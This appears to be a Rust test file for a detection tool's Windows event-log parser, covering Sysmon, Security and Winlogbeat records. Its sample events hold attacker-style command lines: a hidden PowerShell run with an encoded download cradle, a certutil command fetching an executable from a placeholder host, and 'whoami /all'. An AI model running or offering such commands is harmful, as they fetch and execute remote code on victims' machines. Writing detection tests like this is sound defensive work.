//! Tests of the Windows event formats: `evtx` over the shared EVTX samples (skipped with a
//! note when absent), `evtx-json` layouts (one per line, pretty-printed, arrays) and Winlogbeat
//! documents.

use std::io::Cursor;

use super::tests::samples;
use super::{Format, ParseState, Reader, open_path, parse_line, windows_fields};
use crate::proto::{DetectorKind, IndicatorType};

/// A Sysmon process creation as `evtx_dump` renders it.
pub(crate) const SYSMON_1: &str = r##"{"Event":{"#attributes":{"xmlns":"http://schemas.microsoft.com/win/2004/08/events/event"},"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Sysmon","Guid":"5770385F-C22A-43E0-BF4C-06F5698FFBD9"}},"EventID":1,"Version":5,"Level":4,"Task":1,"Opcode":0,"Keywords":"0x8000000000000000","TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:00:00.123456Z"}},"EventRecordID":4242,"Correlation":null,"Execution":{"#attributes":{"ProcessID":2000,"ThreadID":3000}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"WS01.corp.local","Security":{"#attributes":{"UserID":"S-1-5-18"}}},"EventData":{"RuleName":"-","UtcTime":"2024-05-01 10:00:00.120","ProcessGuid":"{11111111-2222-3333-4444-555555555555}","ProcessId":4321,"Image":"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe","FileVersion":"10.0.19041.1","Description":"Windows PowerShell","Product":"Microsoft Windows Operating System","Company":"Microsoft Corporation","OriginalFileName":"PowerShell.EXE","CommandLine":"powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA","CurrentDirectory":"C:\\Users\\alice\\","User":"CORP\\alice","LogonGuid":"{11111111-2222-3333-4444-666666666666}","LogonId":"0x3e7","TerminalSessionId":1,"IntegrityLevel":"High","Hashes":"SHA256=0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF,MD5=0123456789ABCDEF0123456789ABCDEF","ParentProcessGuid":"{11111111-2222-3333-4444-777777777777}","ParentProcessId":1234,"ParentImage":"C:\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c run.bat","ParentUser":"CORP\\alice"}}}"##;

#[test]
fn sysmon_process_creation_is_mapped_under_sigma_names() {
    let event = parse_line(Format::EvtxJson, SYSMON_1, &mut ParseState::default())
        .expect("parses")
        .expect("an event");
    assert_eq!(event.detector_kind, DetectorKind::BehaviouralAnalysis as i32);
    assert_eq!(event.event_type, "windows.Microsoft-Windows-Sysmon/Operational.1");
    assert_eq!(event.source_service, "Microsoft-Windows-Sysmon");
    assert_eq!(event.original_format, "evtx-json");
    assert_eq!(event.original, SYSMON_1);
    let source = event.source.clone().expect("source");
    assert_eq!(source.hostname, "WS01.corp.local");
    assert_eq!(source.user, "CORP\\alice");
    let process = source.process.expect("process");
    assert_eq!(process.name, "powershell.exe");
    assert_eq!(process.pid, 4321);
    assert_eq!(process.parent_name, "cmd.exe");
    assert!(process.command_line.contains("-enc"));
    for (k, v) in [
        ("EventID", "1"),
        ("Channel", "Microsoft-Windows-Sysmon/Operational"),
        ("Provider_Name", "Microsoft-Windows-Sysmon"),
        ("ParentImage", "C:\\Windows\\System32\\cmd.exe"),
        ("OriginalFileName", "PowerShell.EXE"),
        ("RuleName", "-"),
    ] {
        assert_eq!(event.attributes.get(k).map(String::as_str), Some(v), "{k}");
    }
    let kinds: Vec<i32> = event.indicators.iter().map(|i| i.r#type).collect();
    assert!(kinds.contains(&(IndicatorType::FileSha256 as i32)));
    assert!(kinds.contains(&(IndicatorType::ProcessCommandLine as i32)));
    crate::validate::detection_event(&event).expect("a parsed event validates");
    let fields = windows_fields("evtx-json", SYSMON_1).expect("fields");
    assert!(
        fields
            .iter()
            .any(|(k, v)| k == "Image" && v.ends_with("powershell.exe"))
    );
}

#[test]
fn security_4688_gets_sigma_process_fields_and_logons_get_endpoints() {
    let line = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":4688,"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:00:00Z"}},"Channel":"Security","Computer":"DC01"},"EventData":{"SubjectUserName":"bob","SubjectDomainName":"CORP","NewProcessName":"C:\\Windows\\System32\\whoami.exe","CommandLine":"whoami /all","ParentProcessName":"C:\\Windows\\System32\\cmd.exe"}}}"##;
    let event = parse_line(Format::EvtxJson, line, &mut ParseState::default())
        .expect("parses")
        .expect("event");
    assert_eq!(
        event.attributes.get("Image").map(String::as_str),
        Some("C:\\Windows\\System32\\whoami.exe")
    );
    assert_eq!(
        event.attributes.get("ParentImage").map(String::as_str),
        Some("C:\\Windows\\System32\\cmd.exe")
    );
    assert_eq!(event.source.expect("source").user, "CORP\\bob");

    let logon = r##"{"Event":{"System":{"Provider":{"#attributes":{"Name":"Microsoft-Windows-Security-Auditing"}},"EventID":{"#attributes":{"Qualifiers":0},"#text":4624},"TimeCreated":{"#attributes":{"SystemTime":"2024-05-01T10:00:00Z"}},"Channel":"Security","Computer":"SRV01"},"EventData":{"TargetUserName":"admin","LogonType":10,"IpAddress":"198.51.100.7","IpPort":"50123","WorkstationName":"-"}}}"##;
    let event = parse_line(Format::EvtxJson, logon, &mut ParseState::default())
        .expect("parses")
        .expect("event");
    assert_eq!(event.attributes.get("EventID").map(String::as_str), Some("4624"));
    let (source, dest) = (event.source.expect("source"), event.destination.expect("dest"));
    assert_eq!((source.ip.as_str(), source.port), ("198.51.100.7", 50123));
    assert_eq!((dest.hostname.as_str(), dest.user.as_str()), ("SRV01", "admin"));
}

#[test]
fn pretty_printed_documents_and_arrays_are_read() {
    let pretty = serde_json::to_string_pretty(&serde_json::from_str::<serde_json::Value>(SYSMON_1).expect("json"))
        .expect("pretty");
    let input = format!("Record 1\n{pretty}\n[{SYSMON_1},\n{SYSMON_1}]\n{SYSMON_1}\n");
    let records: Vec<_> = Reader::new(Format::EvtxJson, Cursor::new(input.clone()), "t").collect();
    let events: Vec<_> = records
        .iter()
        .filter_map(|r| r.result.as_ref().ok().and_then(Option::as_ref))
        .collect();
    assert_eq!(events.len(), 4, "{records:?}");
    assert!(records.iter().all(|r| r.result.is_ok()));
    let last = records.last().expect("records");
    assert_eq!(last.end_offset, input.len() as u64);
    let incomplete = Reader::new(Format::EvtxJson, Cursor::new("{\"Event\":\n{".to_owned()), "t").collect::<Vec<_>>();
    assert!(
        incomplete.iter().any(|r| r.result.is_err()),
        "a cut document is reported"
    );
}

#[test]
fn winlogbeat_documents_map_like_evtx() {
    let doc = r##"{"@timestamp":"2024-05-01T10:00:00.000Z","event":{"code":"1","provider":"Microsoft-Windows-Sysmon"},"host":{"name":"ws01"},"winlog":{"channel":"Microsoft-Windows-Sysmon/Operational","event_id":1,"provider_name":"Microsoft-Windows-Sysmon","computer_name":"WS01.corp.local","record_id":4242,"event_data":{"Image":"C:\\Windows\\System32\\certutil.exe","CommandLine":"certutil -urlcache -f http://x/a.exe a.exe","ParentImage":"C:\\Windows\\explorer.exe","User":"CORP\\alice"}},"log":{"level":"information"}}"##;
    let event = parse_line(Format::Winlogbeat, doc, &mut ParseState::default())
        .expect("parses")
        .expect("event");
    assert_eq!(event.event_type, "windows.Microsoft-Windows-Sysmon/Operational.1");
    assert_eq!(event.attributes.get("EventID").map(String::as_str), Some("1"));
    assert_eq!(
        event.source.and_then(|s| s.process).map(|p| p.name),
        Some("certutil.exe".to_owned())
    );
    let hit = format!("{{\"_index\":\"winlogbeat\",\"_source\":{doc}}}");
    assert!(parse_line(Format::Winlogbeat, &hit, &mut ParseState::default()).is_ok());
    assert!(
        parse_line(
            Format::Winlogbeat,
            r##"{"@timestamp":"2024-05-01T10:00:00Z"}"##,
            &mut ParseState::default()
        )
        .is_err()
    );
}

#[test]
fn shared_evtx_samples_parse_without_panic() {
    let Some(dir) = samples("evtx-attack-samples") else {
        return;
    };
    let mut files = Vec::new();
    let mut stack = vec![dir];
    while let Some(d) = stack.pop() {
        for entry in std::fs::read_dir(&d).expect("read dir").flatten() {
            let p = entry.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|e| e == "evtx") {
                files.push(p);
            }
        }
    }
    assert!(files.len() > 200, "found {} evtx files", files.len());
    let (mut events, mut rejected) = (0usize, 0usize);
    for path in &files {
        let input = open_path(path).expect("opens");
        let mut lines = Vec::new();
        for record in Reader::new(Format::Evtx, input, path.display().to_string()) {
            match record.result {
                Ok(Some(event)) => {
                    crate::validate::detection_event(&event).expect("a parsed record validates");
                    lines.push(event.original);
                    events += 1;
                }
                Ok(None) => {}
                Err(_) => rejected += 1,
            }
        }
        // The same records through the other two layouts: evtx-json lines, and Winlogbeat-like
        // documents built from them.
        for line in lines.iter().take(20) {
            parse_line(Format::EvtxJson, line, &mut ParseState::default()).expect("evtx-json reads evtx lines");
            let _ = parse_line(Format::Winlogbeat, line, &mut ParseState::default());
        }
    }
    eprintln!("{} files: {events} events, {rejected} records rejected", files.len());
    // pyevtx (evtx 0.14, an independent reader over the same files) counts 8255 records.
    assert!(events >= 8_255, "{events} events");
    assert!(rejected * 100 <= events, "{rejected} rejected of {events}");
}
